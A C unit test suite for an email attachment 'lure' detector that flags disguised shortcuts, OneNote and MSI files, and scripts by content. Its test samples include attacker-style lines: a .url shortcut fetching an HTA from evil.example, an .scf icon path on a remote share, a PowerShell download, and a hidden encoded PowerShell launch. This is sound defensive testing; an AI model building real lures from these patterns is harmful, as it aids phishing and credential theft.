/*
 * check_lure: shortcuts (LNK header, .url/.scf/.library-ms/
 * .settingcontent-ms by content), OneNote (ftype's GUID check), scripts
 * by content and by extension whatever the declared type, MSI as an
 * executable, and the text that must stay quiet: prose, Japanese text,
 * CSV lab results, HL7, HTML newsletters, calendar invites, mail bodies.
 *
 * Every sample is written here: inert headers and harmless scripts.
 */
#include <check.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "content.h"
#include "ftype.h"
#include "lure.h"
#include "mem.h"
#include "msgctx.h"
#include "policy.h"

static struct policy *pol;

static void
setup(void)
{
	pol = policy_default();
}

static void
teardown(void)
{
	const struct policy *p = pol;

	policy_unref(&p);
}

/* lure_scan over data named name (NULL: none), real type from ftype. */
static struct msgctx *
scan(const void *data, size_t len, const char *name, const char *declared,
    unsigned depth)
{
	struct msgctx *m = msgctx_new(pol);
	struct ftype_result r;
	struct content_obj o;
	const char *names[1] = { name }, *err = NULL;

	ck_assert_int_eq(ftype_detect(data, len, &r, &err), 0);
	memset(&o, 0, sizeof(o));
	o.where = "2";
	o.names = names;
	o.nnames = name != NULL;
	o.declared = declared;
	o.data = data;
	o.len = len;
	o.depth = depth;
	o.type = &r;
	ck_assert_int_eq(lure_scan(m, &o, &err), 0);
	return m;
}

static struct msgctx *
scan_str(const char *s, const char *name, const char *declared)
{
	return scan(s, strlen(s), name, declared, 0);
}

static const char *
detail_of(const struct msgctx *m, const char *rule)
{
	for (size_t i = 0; i < m->nfindings; i++)
		if (strcmp(m->findings[i].rule, rule) == 0)
			return m->findings[i].detail;
	return "";
}

/* ---- shortcuts and OneNote ------------------------------------------- */

START_TEST(shortcut_lnk)
{
	unsigned char lnk[128];
	static const unsigned char hdr[20] = { 0x4c, 0, 0, 0, 0x01, 0x14,
	    0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46 };
	struct msgctx *m;

	memset(lnk, 0, sizeof(lnk));
	memcpy(lnk, hdr, sizeof(hdr));
	/* Named like a PDF and declared as one: the header decides. */
	m = scan(lnk, sizeof(lnk), "invoice.pdf", "application/pdf", 0);
	ck_assert(msgctx_has_rule(m, "attachment.shortcut"));
	msgctx_free(&m);
	m = scan(lnk, sizeof(lnk), NULL, NULL, 0);
	ck_assert(msgctx_has_rule(m, "attachment.shortcut"));
	msgctx_free(&m);
}
END_TEST

START_TEST(shortcut_text)
{
	static const struct {
		const char	*text;
		const char	*what;
	} pos[] = {
		{ "[InternetShortcut]\r\nURL=https://evil.example/a.hta\r\n"
		  "IconIndex=1\r\n", ".url" },
		{ "\xef\xbb\xbf\r\n[{000214A0-0000-0000-C000-000000000046}]\r\n"
		  "Prop3=19,2\r\n[InternetShortcut]\r\nURL=file://1.2.3.4/s\r\n",
		  ".url" },
		{ "[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.1\\share\\"
		  "icon.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n", ".scf" },
		{ "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<libraryDescription"
		  " xmlns=\"http://schemas.microsoft.com/windows/2009/library\">"
		  "<searchConnectorDescriptionList/></libraryDescription>",
		  ".library-ms" },
		{ "<?xml version=\"1.0\"?><searchConnectorDescription xmlns=\"http"
		  "://schemas.microsoft.com/windows/2009/searchConnector\">"
		  "</searchConnectorDescription>", ".searchConnector-ms" },
		{ "<?xml version=\"1.0\" encoding=\"UTF-8\"?><PCSettings>"
		  "<SearchableContent xmlns=\"http://schemas.microsoft.com/"
		  "Search/2013/SettingContent\"><ApplicationInformation><DeepLink>"
		  "%windir%\\system32\\cmd.exe</DeepLink></ApplicationInformation>"
		  "</SearchableContent></PCSettings>", ".settingcontent-ms" },
	};
	struct msgctx *m;

	for (size_t i = 0; i < sizeof(pos) / sizeof(pos[0]); i++) {
		/* Declared as plain text with a harmless name. */
		m = scan_str(pos[i].text, "readme.txt", "text/plain");
		ck_assert_msg(msgctx_has_rule(m, "attachment.shortcut"),
		    "case %zu", i);
		ck_assert_ptr_nonnull(strstr(detail_of(m,
		    "attachment.shortcut"), pos[i].what));
		ck_assert(!msgctx_has_rule(m, "attachment.script"));
		msgctx_free(&m);
	}
}
END_TEST

START_TEST(onenote)
{
	static const unsigned char guid[16] = { 0xe4, 0x52, 0x5c, 0x7b, 0x8c,
	    0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3 };
	unsigned char one[1024];
	struct msgctx *m;

	memset(one, 0, sizeof(one));
	memcpy(one, guid, sizeof(guid));
	m = scan(one, sizeof(one), "scan.pdf", "application/octet-stream", 0);
	ck_assert(msgctx_has_rule(m, "attachment.onenote"));
	msgctx_free(&m);
	/* The GUID elsewhere is not a OneNote file. */
	memset(one, 0, sizeof(one));
	memcpy(one + 100, guid, sizeof(guid));
	m = scan(one, sizeof(one), "data.bin", NULL, 0);
	ck_assert(!msgctx_has_rule(m, "attachment.onenote"));
	msgctx_free(&m);
}
END_TEST

/* An OLE2 file whose root entry has clsid (little-endian Data1). */
static size_t
make_cfb(unsigned char *b, size_t cap, uint32_t clsid)
{
	static const unsigned char sig[8] = { 0xd0, 0xcf, 0x11, 0xe0, 0xa1,
	    0xb1, 0x1a, 0xe1 };
	static const unsigned char tail[12] = { 0, 0, 0, 0, 0xc0, 0, 0, 0, 0,
	    0, 0, 0x46 };
	unsigned char *e = b + 1024;
	static const char root[] = "Root Entry";

	ck_assert_uint_ge(cap, 1536);
	memset(b, 0, 1536);
	memcpy(b, sig, 8);
	b[0x18] = 0x3e;
	b[0x1a] = 3;
	b[0x1c] = 0xfe;
	b[0x1d] = 0xff;
	b[0x1e] = 9;
	b[0x20] = 6;
	b[0x2c] = 1;
	b[0x30] = 1;				/* directory at sector 1 */
	memset(b + 0x4c, 0xff, 436);
	b[0x4c] = 0;
	b[0x4d] = b[0x4e] = b[0x4f] = 0;
	memset(b + 512, 0xff, 512);		/* FAT */
	for (size_t i = 0; root[i] != '\0'; i++)
		e[2 * i] = (unsigned char)root[i];
	e[64] = 22;
	e[66] = 5;
	e[67] = 1;
	memset(e + 68, 0xff, 12);
	e[80] = clsid & 0xff;
	e[81] = (clsid >> 8) & 0xff;
	e[82] = (clsid >> 16) & 0xff;
	e[83] = clsid >> 24;
	memcpy(e + 84, tail, sizeof(tail));
	return 1536;
}

START_TEST(msi_executable)
{
	unsigned char b[1536];
	struct ftype_result r;
	const char *err;

	make_cfb(b, sizeof(b), 0x000c1084);
	ck_assert_int_eq(ftype_detect(b, sizeof(b), &r, &err), 0);
	ck_assert_int_eq(r.cls, FTYPE_EXECUTABLE);
	ck_assert_str_eq(r.mime, "application/x-msi");
	make_cfb(b, sizeof(b), 0x000c1086);
	ck_assert_int_eq(ftype_detect(b, sizeof(b), &r, &err), 0);
	ck_assert_int_eq(r.cls, FTYPE_EXECUTABLE);
	/* A Word document's CLSID is not an installer. */
	make_cfb(b, sizeof(b), 0x00020906);
	ck_assert_int_eq(ftype_detect(b, sizeof(b), &r, &err), 0);
	ck_assert_int_ne(r.cls, FTYPE_EXECUTABLE);
	/* A directory sector pointing outside the file. */
	make_cfb(b, sizeof(b), 0x000c1084);
	b[0x30] = 0x70;
	ck_assert_int_eq(ftype_detect(b, sizeof(b), &r, &err), 0);
	ck_assert_int_ne(r.cls, FTYPE_EXECUTABLE);
}
END_TEST

/* ---- scripts ------------------------------------------------------------- */

static const char vbs[] =
    "' update helper\r\nOption Explicit\r\nDim sh, fso\r\n"
    "Set sh = CreateObject(\"WScript.Shell\")\r\n"
    "Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n"
    "sh.Popup \"golden test dummy\"\r\n";
static const char js[] =
    "var sh = new ActiveXObject(\"WScript.Shell\");\r\n"
    "var env = sh.Environment(\"Process\");\r\n"
    "WScript.Echo(env(\"TEMP\"));\r\n";
static const char ps1[] =
    "$ErrorActionPreference = 'SilentlyContinue'\r\n"
    "$wc = New-Object System.Net.WebClient\r\n"
    "$s = $wc.DownloadString('https://example.invalid/a.txt')\r\n"
    "Write-Host $s\r\n";
static const char bat[] =
    "@ECHO OFF\r\nsetlocal\r\nset D=%TEMP%\\x\r\necho golden test\r\n";
static const char bat2[] =
    "rem installer\r\nset X=1\r\ncmd.exe /c echo hi > nul\r\n"
    "powershell.exe -nop -w hidden -enc ZQBjAGgAbwA=\r\nexit /b 0\r\n";
static const char hta[] =
    "<html><head><title>update</title>\r\n<HTA:APPLICATION ID=\"x\" "
    "APPLICATIONNAME=\"update\">\r\n<script language=\"VBScript\">\r\n"
    "Sub Window_OnLoad\r\nEnd Sub\r\n</script></head><body></body></html>";
static const char wsf[] =
    "<?xml version=\"1.0\"?>\r\n<package><job id=\"a\">\r\n<script "
    "language=\"JScript\">\r\nWScript.Echo(\"hi\");\r\n</script>\r\n"
    "</job></package>\r\n";
static const char sct[] =
    "<?XML version=\"1.0\"?>\r\n<scriptlet>\r\n<registration progid=\"x\" "
    "classid=\"{00000000-0000-0000-0000-000000000000}\"></registration>"
    "\r\n<script language=\"JScript\"></script>\r\n</scriptlet>\r\n";
static const char vbe[] = "#@~^CAAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@\r\n";
static const char reg[] =
    "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\"
    "Software\\Example]\r\n\"Value\"=\"1\"\r\n";

START_TEST(script_content)
{
	static const struct {
		const char	*text;
		const char	*kind;
	} pos[] = {
		{ vbs, "VBScript" }, { js, "JScript" }, { ps1, "PowerShell" },
		{ bat, "batch" }, { bat2, "batch" }, { hta, "HTA" },
		{ wsf, ".wsf" }, { sct, "scriptlet" }, { vbe, "VBE/JSE" },
		{ reg, "registry" },
	};
	static const char *const declared[] = { "text/plain",
	    "application/octet-stream", NULL };
	struct msgctx *m;

	for (size_t i = 0; i < sizeof(pos) / sizeof(pos[0]); i++) {
		for (size_t d = 0; d < 3; d++) {
			/* Harmless names: the content decides. */
			m = scan_str(pos[i].text, d == 2 ? NULL : "note.txt",
			    declared[d]);
			if (d == 2) {
				/* Nameless, no type, depth 0: the body. */
				ck_assert(!msgctx_has_rule(m,
				    "attachment.script"));
				msgctx_free(&m);
				m = scan(pos[i].text, strlen(pos[i].text),
				    NULL, "application/octet-stream", 0);
			}
			ck_assert_msg(msgctx_has_rule(m, "attachment.script"),
			    "case %zu/%zu", i, d);
			ck_assert_msg(strstr(detail_of(m, "attachment.script"),
			    pos[i].kind) != NULL, "case %zu: %s", i,
			    detail_of(m, "attachment.script"));
			msgctx_free(&m);
		}
	}
}
END_TEST

START_TEST(script_extension)
{
	static const char *const names[] = { "invoice.js", "INVOICE.VBS",
	    "run.bat", "run.cmd", "a.ps1", "a.hta", "a.wsf", "a.jse",
	    "\xe8\xab\x8b\xe6\xb1\x82\xe6\x9b\xb8.vbe" };
	static const char body[] = "x = 1\r\n";
	struct msgctx *m;

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		m = scan_str(body, names[i], "text/plain");
		ck_assert_msg(msgctx_has_rule(m, "attachment.script"), "%s",
		    names[i]);
		msgctx_free(&m);
	}
	/* A script name on binary content is not this rule's business. */
	m = scan("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16, "a.js", NULL, 0);
	ck_assert(!msgctx_has_rule(m, "attachment.script"));
	msgctx_free(&m);
	/* Inside an archive (depth 1) a nameless script is still a script. */
	m = scan(vbs, strlen(vbs), NULL, NULL, 1);
	ck_assert(msgctx_has_rule(m, "attachment.script"));
	msgctx_free(&m);
}
END_TEST

START_TEST(script_utf16)
{
	unsigned char *u = mem_alloc(2 * sizeof(ps1) + 2);
	size_t n = 0;
	struct msgctx *m;

	u[n++] = 0xff;
	u[n++] = 0xfe;
	for (size_t i = 0; ps1[i] != '\0'; i++) {
		u[n++] = (unsigned char)ps1[i];
		u[n++] = 0;
	}
	m = scan(u, n, "update.txt", "text/plain", 0);
	ck_assert(msgctx_has_rule(m, "attachment.script"));
	ck_assert_ptr_nonnull(strstr(detail_of(m, "attachment.script"),
	    "PowerShell"));
	msgctx_free(&m);
	free(u);
}
END_TEST

START_TEST(script_kind_direct)
{
	char why[160];
	const char *k;

	k = lure_script_kind((const unsigned char *)ps1, strlen(ps1), 0, why,
	    sizeof(why));
	ck_assert_str_eq(k, "PowerShell");
	ck_assert_ptr_nonnull(strstr(why, "new-object"));
	/* An HTML document counts only by its HTA markers. */
	ck_assert_ptr_null(lure_script_kind((const unsigned char *)js,
	    strlen(js), 1, why, sizeof(why)));
	ck_assert_ptr_nonnull(lure_script_kind((const unsigned char *)hta,
	    strlen(hta), 1, why, sizeof(why)));
	ck_assert_str_eq(lure_shortcut_text((const unsigned char *)
	    "[InternetShortcut]\nURL=x", 24), "Internet shortcut (.url)");
	ck_assert_ptr_null(lure_shortcut_text((const unsigned char *)
	    "See [InternetShortcut] here", 27));
}
END_TEST

/* ---- text that is not a script ------------------------------------------- */

static const char prose[] =
    "Dear Dr. Tanaka,\r\n\r\nPlease set the meeting for Monday. We will "
    "start at 9 and exit by the east door; the new schedule is attached. "
    "If the PC does not start, call the IT desk and they will run the "
    "update. Set aside an hour. Dim lighting in room 3 is fine.\r\n\r\n"
    "Function of the committee: on error, report to the chair and resume "
    "next week.\r\n\r\nBest regards,\r\nSuzuki\r\n";
static const char japanese[] =
    "\xe5\x85\x88\xe7\x94\x9f\r\n\xe6\xa4\x9c\xe6\x9f\xbb\xe7\xb5\x90\xe6"
    "\x9e\x9c\xe3\x82\x92\xe3\x81\x8a\xe9\x80\x81\xe3\x82\x8a\xe3\x81\x97"
    "\xe3\x81\xbe\xe3\x81\x99\xe3\x80\x82set start exit\r\n";
static const char csv[] =
    "patient_id,test,value,unit,flag,date\r\n"
    "000123,WBC,6.2,10^3/uL,,2024-04-01\r\n"
    "000123,CRP,0.3,mg/dL,,2024-04-01\r\n"
    "000124,HbA1c,7.1,%,H,2024-04-01\r\n"
    "000125,eGFR,58,mL/min/1.73m2,L,2024-04-01\r\n";
static const char hl7[] =
    "MSH|^~\\&|LAB|HOSP|EHR|HOSP|20240401090000||ORU^R01|MSG0001|P|2.5\r"
    "PID|1||000123^^^HOSP||YAMADA^TARO||19600101|M\r"
    "OBR|1||LAB123|CBC^Complete blood count\r"
    "OBX|1|NM|WBC^White cells||6.2|10^3/uL|3.5-9.0|N|||F\r";
static const char newsletter[] =
    "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>News"
    "</title></head><body><h1>Hospital news</h1><p>Set the date: the "
    "new wing will start service. Function room, exit B.</p><p><a href="
    "\"https://www.hospital.example/news\">More</a></p><script>var x = "
    "1; function f() { return x; }</script></body></html>";
static const char ics[] =
    "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nPRODID:Microsoft Exchange "
    "Server 2010\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Set up "
    "meeting\r\nDTSTART:20240401T090000\r\nDESCRIPTION:start; exit; "
    "call\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
static const char it_mail[] =
    "To update, open PowerShell and check $PSVersionTable, then run "
    "Windows Update.  Do not run scripts you get by mail.\r\n";

START_TEST(text_negative)
{
	static const struct {
		const char	*text;
		const char	*name;
		const char	*declared;
	} neg[] = {
		{ prose, "letter.txt", "text/plain" },
		{ japanese, "memo.txt", "text/plain" },
		{ csv, "lab.csv", "text/csv" },
		{ hl7, "result.hl7", "application/octet-stream" },
		{ newsletter, "news.html", "text/html" },
		{ ics, "invite.ics", "text/calendar" },
		{ it_mail, "howto.txt", "text/plain" },
		{ "", "empty.txt", "text/plain" },
	};
	struct msgctx *m;

	for (size_t i = 0; i < sizeof(neg) / sizeof(neg[0]); i++) {
		m = scan_str(neg[i].text, neg[i].name, neg[i].declared);
		ck_assert_msg(m->nfindings == 0, "case %zu: %s", i,
		    m->nfindings ? m->findings[0].detail : "");
		msgctx_free(&m);
	}
	/* A mail body holding a script is shown, not run. */
	m = scan_str(vbs, NULL, "text/plain");
	ck_assert_uint_eq(m->nfindings, 0);
	msgctx_free(&m);
}
END_TEST

START_TEST(text_bounded)
{
	/* Keywords beyond LURE_TEXT_MAX are not read; long words are cut. */
	size_t n = LURE_TEXT_MAX + 4096;
	char *t = mem_alloc(n + 1);
	struct msgctx *m;

	memset(t, 'a', n);
	t[n] = '\0';
	memcpy(t + LURE_TEXT_MAX + 10, " WScript.Shell CreateObject ", 28);
	m = scan(t, n, "big.txt", "text/plain", 0);
	ck_assert(!msgctx_has_rule(m, "attachment.script"));
	msgctx_free(&m);
	memcpy(t + 10, " WScript.Shell CreateObject ", 28);
	m = scan(t, n, "big.txt", "text/plain", 0);
	ck_assert(msgctx_has_rule(m, "attachment.script"));
	msgctx_free(&m);
	free(t);
}
END_TEST

static Suite *
lure_suite(void)
{
	Suite *s = suite_create("lure");
	TCase *tc;

	tc = tcase_create("shortcuts");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, shortcut_lnk);
	tcase_add_test(tc, shortcut_text);
	tcase_add_test(tc, onenote);
	tcase_add_test(tc, msi_executable);
	suite_add_tcase(s, tc);

	tc = tcase_create("scripts");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, script_content);
	tcase_add_test(tc, script_extension);
	tcase_add_test(tc, script_utf16);
	tcase_add_test(tc, script_kind_direct);
	suite_add_tcase(s, tc);

	tc = tcase_create("negative");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, text_negative);
	tcase_add_test(tc, text_bounded);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(lure_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
